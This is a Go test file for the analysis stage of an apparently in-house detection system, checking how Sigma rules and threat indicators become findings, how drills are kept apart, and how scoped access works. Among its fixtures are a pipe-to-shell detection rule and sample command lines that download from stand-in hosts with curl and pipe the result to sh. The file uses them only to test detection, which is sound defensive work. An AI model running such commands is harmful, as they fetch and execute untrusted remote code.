package analyse_test

import (
	"context"
	"crypto/rand"
	"fmt"
	"strings"
	"testing"
	"time"

	"noroshi/access"
	"noroshi/analyse"
	"noroshi/analyse/match"
	"noroshi/analyse/sigma"
	"noroshi/event"
	"noroshi/fault"
	"noroshi/finding"
	"noroshi/ident"
	"noroshi/indicator"
	"noroshi/label"
	"noroshi/ledger"
	"noroshi/ledger/ledgertest"
	"noroshi/observable"
	"noroshi/org"
)

var now = time.Date(2026, 11, 24, 9, 0, 0, 0, time.UTC)

const (
	orgA = ident.ID("org_a")
	orgB = ident.ID("org_b")
)

// rig is the stage on a ledger, over two organisations below one.
type rig struct {
	*analyse.Analyser
	db    *ledger.DB
	match *match.Set
	tree  *org.Tree
}

func newRig(t testing.TB, db *ledger.DB, cfg analyse.Config, rules ...string) *rig {
	t.Helper()
	r := &rig{db: db, match: match.New(), tree: org.NewTree([]org.Organisation{
		{ID: "org_root", Tenant: 1}, {ID: orgA, Parent: "org_root", Tenant: 2}, {ID: orgB, Parent: "org_root", Tenant: 3}})}
	set := &sigma.Set{}
	for i, text := range rules {
		rule, err := sigma.Parse(fmt.Sprintf("%d.yml", i), []byte(text))
		if err != nil {
			t.Fatal(err)
		}
		if err := set.Add(rule); err != nil {
			t.Fatal(err)
		}
	}
	r.use(t, cfg, set)
	return r
}

// use makes the stage with a set of rules.
func (r *rig) use(t testing.TB, cfg analyse.Config, set *sigma.Set) {
	t.Helper()
	clock := func() time.Time { return now }
	var err error
	r.Analyser, err = analyse.New(cfg, analyse.Deps{DB: r.db, Rules: set, Match: r.match, Tree: func() *org.Tree { return r.tree },
		Now: clock, Ident: ident.Maker{Now: clock, Rand: rand.Reader}})
	if err != nil {
		t.Fatal(err)
	}
}

func (r *rig) hub() access.Scope { return access.Hub(r.tree, "test") }

// only is the scope of some organisations.
func only(orgs ...ident.ID) access.Scope {
	var list []org.Organisation
	for _, o := range orgs {
		list = append(list, org.Organisation{ID: o})
	}
	return access.Hub(org.NewTree(list), "test")
}

func (r *rig) judge(t *testing.T, events ...*event.Event) []finding.Finding {
	t.Helper()
	out, err := r.Judge(t.Context(), events)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// past records what a look back found.
func (r *rig) past(t interface{ Context() context.Context }, ind indicator.Indicator, list []analyse.Sighting) (n int64, err error) {
	err = r.db.Write(t.Context(), "test", func(tx *ledger.Tx) (err error) {
		n, _, err = r.AddSightings(t.Context(), tx, ind, list)
		return err
	})
	return n, err
}

func (r *rig) all(t *testing.T, f analyse.Filter) []finding.Finding {
	t.Helper()
	p, err := r.List(t.Context(), r.hub(), f)
	if err != nil {
		t.Fatal(err)
	}
	return p.Items
}

const (
	dnsRule   = "title: Bad name\ntitle_ja: 悪い名前\nid: dns-rule\nlevel: high\ntags: [attack.t1071.004]\nlogsource: {category: dns_query}\ndetection:\n  s:\n    QueryName|contains: bad\n  condition: s\n"
	procRule  = "title: Pipe to shell\nid: proc-rule\nlogsource: {category: process_creation}\ndetection:\n  s:\n    CommandLine|contains: '| sh'\n  condition: s\n"
	drillRule = "title: Drill\nid: drill-rule\ntags: [noroshi.exercise]\nlogsource: {category: process_creation}\ndetection:\n  s:\n    CommandLine|contains: .drill.noroshi.test\n  condition: s\n"
)

func base(o ident.ID, seq uint64) *event.Event {
	node := ident.ID("nod_of_" + o)
	return &event.Event{Time: now.Add(time.Duration(seq) * time.Second).UnixMilli(),
		Metadata: event.Metadata{UID: fmt.Sprintf("%s.%d", node, seq), Sequence: seq, Tenant: o, Provider: event.TierEBPF,
			Reporter: event.Reporter{UID: node, Hostname: "host-of-" + string(o)}}}
}

func query(o ident.ID, seq uint64, name string) *event.Event {
	e := base(o, seq)
	e.ClassUID, e.ActivityID, e.Query = event.DNSActivity, event.DNSTraffic, &event.DNSQueryInfo{Hostname: name, Type: "A"}
	e.Finish()
	return e
}

func launch(o ident.ID, seq uint64, image, parent, cmd string) *event.Event {
	e := base(o, seq)
	e.ClassUID, e.ActivityID = event.ProcessActivity, event.ProcessLaunch
	e.Process = &event.Process{PID: 7, CmdLine: cmd, File: &event.File{Path: image}, ParentProcess: &event.Process{File: &event.File{Path: parent}}}
	e.Finish()
	return e
}

func active(id, owner ident.ID, tlp label.TLP, o observable.Observable) indicator.Indicator {
	return indicator.Indicator{ID: id, Org: owner, Observable: o, Marking: label.Marking{TLP: tlp, PAP: label.PAPGreen, Realm: label.Real},
		State: indicator.Active, Confidence: 90, ValidUntil: now.AddDate(1, 0, 0)}
}

func TestOneAttackIsOneFindingAndTwoAreTwo(t *testing.T) {
	db := ledgertest.SQLite(t)
	for name, c := range map[string]struct {
		events []*event.Event
		want   int
	}{
		"names below one domain are one tunnel":     {[]*event.Event{query(orgA, 1, "a.bad.com"), query(orgA, 2, "b.bad.com")}, 1},
		"two domains are two":                       {[]*event.Event{query(orgA, 1, "a.bad.com"), query(orgA, 2, "a.bad.org")}, 2},
		"two organisations are two":                 {[]*event.Event{query(orgA, 1, "a.bad.com"), query(orgB, 1, "a.bad.com")}, 2},
		"names of two drills are two":               {[]*event.Event{query(orgA, 1, "bad1.drill.noroshi.test"), query(orgA, 2, "bad2.drill.noroshi.test")}, 2},
		"the same command is one":                   {[]*event.Event{launch(orgA, 1, "/bin/sh", "/bin/a", "curl http://x.com/1 | sh"), launch(orgA, 2, "/bin/sh", "/bin/a", "curl http://y.x.com/2 | sh")}, 1},
		"the same program with another host is two": {[]*event.Event{launch(orgA, 1, "/bin/sh", "/bin/a", "curl http://x.com/1 | sh"), launch(orgA, 2, "/bin/sh", "/bin/a", "curl http://192.0.2.1/1 | sh")}, 2},
		"another parent is two":                     {[]*event.Event{launch(orgA, 1, "/bin/sh", "/bin/a", "x | sh"), launch(orgA, 2, "/bin/sh", "/bin/b", "x | sh")}, 2},
	} {
		t.Run(name, func(t *testing.T) {
			r := newRig(t, db, analyse.Config{}, strings.Replace(dnsRule, "dns-rule", name+"1", 1), strings.Replace(procRule, "proc-rule", name+"2", 1))
			if got := r.judge(t, c.events...); len(got) != c.want {
				t.Errorf("%d findings, not %d: %+v", len(got), c.want, got)
			}
		})
	}
}

func TestFindingSaysWhatHappened(t *testing.T) {
	ledgertest.Each(t, func(t *testing.T, db *ledger.DB) {
		r := newRig(t, db, analyse.Config{}, dnsRule)
		var told []finding.Finding
		r.OnChange = func(f finding.Finding) { told = append(told, f) }
		made := r.judge(t, query(orgA, 5, "one.bad.com"), query(orgA, 6, "good.com"), query(orgA, 9, "two.bad.com"))
		if len(made) != 1 || len(told) != 1 {
			t.Fatalf("one finding was expected: %+v, told %d", made, len(told))
		}
		f, err := r.Get(t.Context(), only(orgA), made[0].ID)
		if err != nil {
			t.Fatal(err)
		}
		if f.Count != 2 || !f.FirstSeen.Equal(now.Add(5*time.Second)) || !f.LastSeen.Equal(now.Add(9*time.Second)) || !f.FoundAt.Equal(now) ||
			f.Rule.TitleJA != "悪い名前" || f.Rule.Level != finding.High || f.Rule.Techniques[0] != "T1071.004" || f.Device != "host-of-org_a" ||
			f.Realm != label.Real || f.State != finding.New || f.Source != finding.BySigma || f.LastSeq != 9 || f.Version != 1 {
			t.Errorf("the finding is %+v", f)
		}
		if len(f.Observables) != 2 || f.Observables[1].Value != "two.bad.com" {
			t.Errorf("the observables are %+v", f.Observables)
		}
		if len(f.Evidence) != 2 || f.Evidence[0].EventUID != "nod_of_org_a.5" || f.Evidence[0].Fields["query.hostname"] != "one.bad.com" || f.Evidence[0].Matched[0] != "QueryName: one.bad.com" {
			t.Errorf("the evidence is %+v", f.Evidence)
		}
		// More of the same is not passed on, something new is, and so is a batch
		// that comes again.
		if got := r.judge(t, query(orgA, 10, "two.bad.com")); len(got) != 0 {
			t.Errorf("more of the same was passed on: %+v", got)
		}
		for range 2 {
			if got := r.judge(t, query(orgA, 11, "three.bad.com")); len(got) != 1 || got[0].Count != 4 || len(got[0].Observables) != 3 {
				t.Errorf("a new name, or its second delivery, was not passed on once: %+v", got)
			}
		}
	})
}

// TestHostileEventsDoNotStopTheLine judges what a node may send at worst: the
// ledger must take it, else the batch would come again for ever.
func TestHostileEventsDoNotStopTheLine(t *testing.T) {
	ledgertest.Each(t, func(t *testing.T, db *ledger.DB) {
		r := newRig(t, db, analyse.Config{}, procRule, dnsRule)
		long := strings.Repeat("/狼煙", 9000)
		unmapped := launch(orgA, 5, "/x", "/y", "| sh")
		unmapped.Unmapped = map[string]string{"a": long, "b\x00": "\xff"}
		got := r.judge(t, launch(orgA, 1, "/bin/\x00sh", "\xff\xfe", "a\x00\xff | sh"), launch(orgA, 2, long, long, long+" | sh"),
			launch(orgA, 3, long, long, long+" | sh"), query(orgA, 4, strings.Repeat("bad.", 60)+"\x00\xff"), unmapped, query(orgB, 0, "bad.com"), query(orgB, 0, "bad.com"))
		if len(got) != 5 {
			t.Fatalf("%d findings, not 5", len(got))
		}
		for _, f := range r.all(t, analyse.Filter{}) {
			if len(f.Title) > 400 || len(f.Evidence) == 0 || f.Count == 0 || (f.Org == orgB && f.Count != 1) {
				t.Errorf("the finding is %d × %.100q with %d pieces of evidence", f.Count, f.Title, len(f.Evidence))
			}
		}
	})
}

func TestExerciseIsKeptApartAndNamesNothingReal(t *testing.T) {
	r := newRig(t, ledgertest.SQLite(t), analyse.Config{}, procRule, drillRule)
	r.judge(t, launch(orgA, 1, "/bin/sh", "/bin/drill", "curl http://s1.drill.noroshi.test/x http://real.example.com/ | sh"))
	drills := r.all(t, analyse.Filter{Realm: label.Exercise})
	if len(drills) != 1 || len(drills[0].Observables) != 2 {
		t.Fatalf("one rehearsed finding with a name and a URL was expected: %+v", drills)
	}
	// Naming a drill does not hide an attack.
	if real := r.all(t, analyse.Filter{Realm: label.Real}); len(real) != 1 || real[0].Rule.ID != "proc-rule" {
		t.Errorf("the real finding is missing: %+v", real)
	}
	if n, err := r.Counts(t.Context(), r.hub(), label.Exercise); err != nil || n[finding.New] != 1 || len(n) != 4 {
		t.Errorf("the counts are %v, %v", n, err)
	}
}

func TestIndicatorMakesFindingsOnlyWhereItMayBeSeen(t *testing.T) {
	r := newRig(t, ledgertest.SQLite(t), analyse.Config{})
	evil := observable.Observable{Kind: observable.Domain, Value: "evil.com"}
	r.match.Put(active("ind_1", orgB, label.TLPRed, evil))
	if got := r.judge(t, query(orgA, 1, "www.evil.com"), query(orgB, 1, "www.evil.com")); len(got) != 1 || got[0].Org != orgB || got[0].Indicator != "ind_1" || got[0].Rule.Level != finding.High {
		t.Errorf("only its owner may learn of a red indicator: %+v", got)
	}
	ind := active("ind_2", orgB, label.TLPAmber, evil)
	sightings := []analyse.Sighting{{Org: orgA, Node: "nod_of_org_a", First: now, Last: now, Seqs: []uint64{1}}}
	if n, err := r.past(t, ind, sightings); err != nil || n != 0 {
		t.Errorf("the look back told another of it: %d, %v", n, err)
	}
	ind.SharedWith = []ident.ID{orgA}
	if n, err := r.past(t, ind, sightings); err != nil || n != 1 {
		t.Errorf("the look back left out whom it is shared with: %d, %v", n, err)
	}
}

func TestDecisionsAreGuardedAndLeaveHistory(t *testing.T) {
	ledgertest.Each(t, func(t *testing.T, db *ledger.DB) {
		r := newRig(t, db, analyse.Config{}, dnsRule)
		f := r.judge(t, query(orgA, 1, "bad.com"))[0]
		r.judge(t, query(orgA, 2, "bad.com")) // Counting does not stand in the way.
		set := func(s access.Scope, version int64, state finding.State, made ident.ID) (finding.Finding, error) {
			return r.SetState(t.Context(), s, f.ID, version, state, "seen", made)
		}
		if _, err := set(only(orgB), 1, finding.Closed, ""); fault.KindOf(err) != fault.NotFound {
			t.Errorf("another organisation is told %v", err)
		}
		if _, err := set(only(orgA), 1, "odd", ""); fault.KindOf(err) != fault.Invalid {
			t.Errorf("an odd state is told %v", err)
		}
		for range 2 {
			got, err := set(only(orgA), 1, finding.Escalated, "ind_1")
			if err != nil || got.State != finding.Escalated || got.Indicator != "ind_1" || got.Version != 2 || got.Count != 2 || got.By != "hub:test" {
				t.Errorf("the decision gives %+v, %v", got, err)
			}
		}
		if _, err := set(only(orgA), 1, finding.Dismissed, ""); fault.KindOf(err) != fault.Conflict {
			t.Errorf("an old version is told %v", err)
		}
		if _, err := set(only(orgA), 2, finding.Dismissed, ""); err != nil {
			t.Error(err)
		}
		r.judge(t, query(orgA, 3, "bad.com"))
		if got, err := r.Get(t.Context(), only(orgA), f.ID); err != nil || got.State != finding.Dismissed || got.Count != 3 || got.Indicator != "ind_1" {
			t.Errorf("counting undid the decision: %+v, %v", got, err)
		}
		h, err := db.History(t.Context(), f.ID)
		if err != nil || len(h) != 3 || h[0].Action != "found" || h[1].Action != "escalated" || h[2].Action != "dismissed" {
			t.Errorf("the history is %+v, %v", h, err)
		}
	})
}

func TestListOfManyOrganisationsAndOddQuestions(t *testing.T) {
	ledgertest.Each(t, func(t *testing.T, db *ledger.DB) {
		r := newRig(t, db, analyse.Config{}, dnsRule)
		r.judge(t, query(orgA, 1, "bad.com"), query(orgB, 1, "bad.com"))
		many := []ident.ID{orgA}
		for i := range 300 {
			many = append(many, ident.ID(fmt.Sprintf("org_%d", i)))
		}
		if p, err := r.List(t.Context(), only(many...), analyse.Filter{}); err != nil || len(p.Items) != 1 || p.Items[0].Org != orgA {
			t.Errorf("a wide scope sees %+v, %v", p, err)
		}
		if p, err := r.List(t.Context(), access.Scope{}, analyse.Filter{}); err != nil || len(p.Items) != 0 {
			t.Errorf("no scope sees %+v, %v", p, err)
		}
		for name, f := range map[string]analyse.Filter{"cursor": {Cursor: "x"}, "cursor of another kind": {Cursor: "1.ind_x"}, "level": {Level: "odd"}, "text": {Text: "a\x00"}} {
			if _, err := r.List(t.Context(), r.hub(), f); fault.KindOf(err) != fault.Invalid {
				t.Errorf("an odd %s is told %v", name, err)
			}
		}
	})
}

func TestNewRefusesWhatIsMissing(t *testing.T) {
	if _, err := analyse.New(analyse.Config{}, analyse.Deps{}); err == nil {
		t.Error("a stage without parts was made")
	}
	if _, err := analyse.New(analyse.Config{KeysPerHour: -1}, analyse.Deps{}); fault.KindOf(err) != fault.Invalid {
		t.Errorf("a negative bound is told %v", err)
	}
}
